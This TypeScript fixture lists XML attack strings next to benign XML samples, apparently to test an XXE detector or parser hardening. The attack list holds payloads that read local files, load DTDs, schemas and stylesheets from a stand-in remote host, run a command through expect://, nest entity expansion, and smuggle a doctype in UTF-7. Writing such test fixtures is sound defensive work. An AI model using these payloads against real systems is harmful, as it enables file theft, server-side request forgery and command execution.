/** Written for this project from the grammar of the class; no payload list was copied. */
export const attacks: readonly string[] = [
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>',
  "<!DOCTYPE r [<!ENTITY % d SYSTEM 'http://198.51.100.7/d'>%d;]><r/>",
  '<!DOCTYPE r SYSTEM "http://198.51.100.7/d.dtd"><r/>',
  '<!DOCTYPE r PUBLIC "x" "http://198.51.100.7/d.dtd"><r/>',
  '<!DOCTYPE z [<!ENTITY a "b"><!ENTITY c "&a;&a;&a;">]><z>&c;</z>',
  '<!doctype r [<!entity x system "expect://id">]><r/>',
  '<r xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/hostname" parse="text"/></r>',
  '<svg><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]></svg>',
  '+ADwAIQ-DOCTYPE r+AFs',
  '<?xml version="1.0" encoding="UTF-7"?><r/>',
  '<r xsi:noNamespaceSchemaLocation="http://198.51.100.7/x.xsd"/>',
  '<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/x.xsl"?><r/>',
  '<!DOCTYPE r [<!ENTITY\tx\nSYSTEM\t"file:///c:/boot.ini">]><r>&x;</r>',
];

export const benign: readonly string[] = [
  '<!DOCTYPE html><html><body>Hi</body></html>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html></html>',
  '<!DOCTYPE html SYSTEM "about:legacy-compat"><html></html>',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
  '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
  '<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>',
  '<?xml-stylesheet type="text/xsl" href="style.xsl"?><a/>',
  '<project xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"/>',
  '<!-- a comment --><a/>',
  'The doctype of the page and its entities',
  '<![CDATA[ text ]]>',
  '&lt;b&gt;',
  'include "a.xml"',
];
